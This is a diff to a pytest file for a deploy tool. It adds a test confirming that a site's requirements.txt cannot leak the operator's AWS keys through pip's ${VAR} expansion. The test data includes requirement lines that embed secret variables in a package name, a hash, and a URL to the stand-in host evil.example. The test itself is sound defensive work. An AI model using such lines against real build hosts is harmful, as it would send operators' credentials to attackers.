@@ -1,5 +1,6 @@
-"""The independent review (issue 21), continued: attacks through a site's requirements.txt
-on the host half of the pip step, which runs with network and the operator's settings."""
+"""The independent review (issue 21), continued: attacks on what the deployer itself reads
+and runs outside the sandbox — the host half of the pip step (network, the operator's
+settings and secrets), a committed deploy.toml, a Zensical config, a site's mount."""
 
 from __future__ import annotations
 
@@ -13,7 +14,7 @@ import pytest
 from sitedeploy import commands
 from sitedeploy import config as config_mod
 from sitedeploy.errors import BuildError, ConfigError, SitedeployError
-from tests.fixtures.canaries import CanaryFolder
+from tests.fixtures.canaries import CLI_CANARIES, CanaryFolder
 from tests.fixtures.git import ContentRepo, write_config
 
 DOCS = '[[sites]]\nname = "docs"\npath = "sites/docs"\n'
@@ -28,6 +29,29 @@ def _config(tmp_path: Path, repo: ContentRepo) -> config_mod.Config:
     ops = tmp_path / "ops"
     ops.mkdir(exist_ok=True)
     return config_mod.load(write_config(ops, repo.path, sites=DOCS))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "canary-${AWS_SECRET_ACCESS_KEY}==1.0",
+        "evil @ https://evil.example/${AWS_ACCESS_KEY_ID}/evil-1.0-py3-none-any.whl",
+        "mkdocs==1.6.1 \\\n  --hash=sha256:${AWS_SECRET_ACCESS_KEY}",
+    ],
+)
+def test_requirements_cannot_expand_the_deployers_environment(
+    line: str, tmp_path: Path, content_repo: ContentRepo
+) -> None:
+    """pip expands ``${VAR}`` in a requirements file; the host download runs with the
+    operator's environment (its keys), so a line naming one would send it to any https host
+    or print it in the error that reaches the chat and the pull request's status."""
+    content_repo.write("sites/docs/requirements.txt", f"mkdocs==1.6.1\n{line}\n")
+    content_repo.commit("a requirement line naming the deployer's variables")
+    with pytest.raises(BuildError) as caught:
+        commands.build(_config(tmp_path, content_repo))
+    said = f"{caught.value} {getattr(caught.value, 'log_tail', '')}"
+    assert not [name for name, value in CLI_CANARIES.items() if value in said]
+    assert "requirements.txt line 2" in str(caught.value)
 
 
 @pytest.mark.parametrize(
